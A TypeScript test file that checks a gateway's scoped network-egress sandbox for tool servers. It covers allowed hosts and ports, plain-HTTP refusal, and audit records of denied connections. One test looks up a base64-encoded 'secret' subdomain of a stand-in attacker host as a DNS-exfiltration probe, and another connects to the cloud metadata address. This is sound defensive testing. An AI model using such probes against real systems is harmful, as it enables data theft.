/** Tool servers with `network_egress: scoped`: what they reach, and what is recorded. */

import assert from "node:assert/strict";
import { join } from "node:path";
import { it } from "node:test";
import type { JsonObject } from "@toolcrib/json";
import { fixtureCommand, makeTemporaryDirectory, waitUntil } from "@toolcrib/testing";
import { configIn, somebody, startTestGateway, type TestGateway, textOf } from "./gateway-harness.ts";
import { startTestApi } from "./toolspec-harness.ts";

const networkServer = (id: string, egress_allow: readonly (string | JsonObject)[]): JsonObject => ({
  id,
  trust_state: "verified",
  transport: { kind: "stdio", ...fixtureCommand(join(import.meta.dirname, "fixtures/network-stdio.ts")) },
  containment: { network_egress: "scoped", egress_allow },
});

async function call({ gateway }: TestGateway, id: string, args: JsonObject): Promise<string> {
  const outcome = await gateway.call(somebody, id, args);
  return outcome.kind === "result" ? textOf(outcome.result) : JSON.stringify(outcome);
}

it("a program that looks names up itself and ignores the proxy reaches the same hosts", async () => {
  await using api = await startTestApi();
  const document = {
    egress: api.egress,
    tool_servers: [
      networkServer("acme", ["api.acme.example"]),
      networkServer("any", [
        { host: "*.acme.example", tls: "passthrough" },
        { host: "api.beta.example:8443", tls: "passthrough" },
      ]),
    ],
  };
  await using test = await startTestGateway(document, { files: {} });
  for (const id of ["acme", "any"]) {
    assert.match(
      await call(test, `${id}:direct`, { url: "https://api.acme.example/owners/x/repos" }),
      /^200 /,
    );
    assert.match(await call(test, `${id}:resolve`, { host: "API.acme.example" }), /^\["198\.18\.0\.\d+"\]$/);
    assert.equal(await call(test, `${id}:resolve`, { host: "api.acme.example", type: "AAAA" }), "ENODATA");
    // A name that is looked up carries nothing out: no resolver outside is asked for it.
    for (const type of ["A", "TXT", "MX", "CNAME"]) {
      assert.equal(await call(test, `${id}:resolve`, { host: "c2VjcmV0.evil.example", type }), "ENOTFOUND");
    }
    assert.match(
      await call(test, `${id}:direct`, { url: "https://www.beta.example/" }),
      /^failed: ENOTFOUND/,
    );
    assert.match(
      await call(test, `${id}:direct`, { url: "https://198.18.9.9/" }),
      /^failed: (?:ECONNRESET|EPIPE)/,
    );
    assert.match(
      await call(test, `${id}:direct`, { url: "http://api.acme.example/owners" }),
      /^403 .*EGRESS_PLAIN_HTTP/,
    );
  }
  const port = { url: "https://api.beta.example:8443/owners/x/repos" };
  assert.match(await call(test, "any:direct", port), /^200 /);
  assert.match(
    await call(test, "any:direct", { url: "https://api.beta.example/" }),
    /^failed: (?:ECONNRESET|EPIPE)/,
  );
  await test.stop();
  const denied = test
    .audit()
    .flatMap(({ type, data }) =>
      type === "egress.denied" ? [`${data.server} ${data.host} ${data.code}`] : [],
    );
  const asked = denied.filter((line) => line === "acme c2vjcmv0.evil.example EGRESS_HOST_DENIED");
  assert.equal(asked.length, 1, denied.join("\n"));
  assert.ok(denied.includes("any api.beta.example EGRESS_PORT_DENIED"), denied.join("\n"));
});

it("a host with tls: passthrough is reached unread, and the status says what that means", async () => {
  await using api = await startTestApi();
  const passed = { host: "*.acme.example", tls: "passthrough" };
  const document = { egress: api.egress, tool_servers: [networkServer("acme", [passed])] };
  await using test = await startTestGateway(document, { files: {} });
  assert.match(await call(test, "acme:get", { url: "https://api.acme.example/owners/x/repos" }), /^200 /);
  assert.match(await call(test, "acme:get", { url: "https://api.beta.example/" }), /^failed/);
  const [server] = test.gateway.status().servers;
  assert.deepEqual(server?.containment?.frontingHosts, ["*.acme.example"]);
});

it("a server reaches the hosts of egress_allow and nothing else", async () => {
  await using api = await startTestApi();
  const document = {
    egress: api.egress,
    tool_servers: [
      networkServer("acme", ["api.acme.example"]),
      networkServer("any", ["*.acme.example", "api.beta.example:8443"]),
    ],
  };
  await using test = await startTestGateway(document, { files: {} });
  const tiers = test.gateway.status().servers.map(({ containment }) => containment?.tier);
  if (tiers.includes("none")) assert.fail("there is no sandbox");

  assert.match(await call(test, "acme:get", { url: "https://api.acme.example/owners/x/repos" }), /^200 /);
  assert.equal(api.server.requests.length, 1);
  const refused = await call(test, "acme:get", { url: "https://api.beta.example/" });
  assert.match(refused, /^failed/);
  assert.match(await call(test, "any:get", { url: "https://api.acme.example/owners/x/repos" }), /^200 /);
  // The port of the pattern counts, and not 443.
  assert.match(await call(test, "any:get", { url: "https://api.beta.example/" }), /^failed/);
  assert.match(await call(test, "any:get", { url: "https://api.beta.example:8443/owners/x/repos" }), /^200 /);
  assert.equal(api.server.requests.length, 3);

  const { port } = api.server;
  assert.equal(await call(test, "acme:connect", { host: "127.0.0.1", port }), "ECONNREFUSED");
  assert.match(
    await call(test, "acme:connect", { host: "169.254.169.254", port: 80 }),
    /ENETUNREACH|EHOSTUNREACH/,
  );
  assert.equal(await call(test, "acme:connect", { host: "api.acme.example", port: 443 }), "connected");
  assert.equal(await call(test, "acme:connect", { host: "api.acme.example", port: 8443 }), "ECONNREFUSED");
  assert.equal(await call(test, "acme:connect", { host: "api.beta.example", port: 443 }), "ENOTFOUND");
  assert.match(await call(test, "acme:get", { url: "http://api.acme.example/" }), /^(?:403|failed)/);

  await test.stop();
  const seen = test
    .audit()
    .flatMap(({ type, data }) =>
      type === "egress.denied" ? [`${data.server} ${data.host} ${data.code}`] : [],
    );
  assert.ok(seen.includes("acme api.beta.example EGRESS_HOST_DENIED"), seen.join("\n"));
  assert.ok(seen.includes("any api.beta.example EGRESS_PORT_DENIED"), seen.join("\n"));
});

it("a server that leaves keeps its name on the trail while another of its id is prepared and given up", async () => {
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await using api = await startTestApi((_request, response) => void held.then(() => response.end("{}")));
  const servers = [networkServer("acme", ["api.acme.example"])];
  await using test = await startTestGateway({ egress: api.egress, tool_servers: servers }, { files: {} });
  const { gateway } = test;
  await using directory = await makeTemporaryDirectory();
  const before = await configIn(directory.path, { egress: api.egress, tool_servers: servers });
  const without = { ...before, toolServers: [] };
  const url = "https://api.acme.example/held https://api.beta.example/";
  const called = call(test, "acme:get", { url });
  await waitUntil(() => api.server.requests.length === 1);
  assert.equal((await gateway.applyConfig(without, [])).error, undefined);
  // The next one fails after its servers are prepared.
  let isPrepared = false;
  const policy = new Proxy(before.policy, {
    get(target, name) {
      if (isPrepared) throw new Error("injected failure");
      return Reflect.get(target, name);
    },
  });
  setImmediate(() => {
    isPrepared = true;
  });
  assert.match((await gateway.applyConfig({ ...before, policy }, [])).error ?? "", /injected failure/);
  release();
  assert.match(await called, /^failed/);
  await test.stop();
  const denied = test
    .audit()
    .flatMap(({ type, data }) => (type === "egress.denied" ? [`${data.server} ${data.host}`] : []));
  assert.deepEqual(denied, ["acme api.beta.example"]);
});
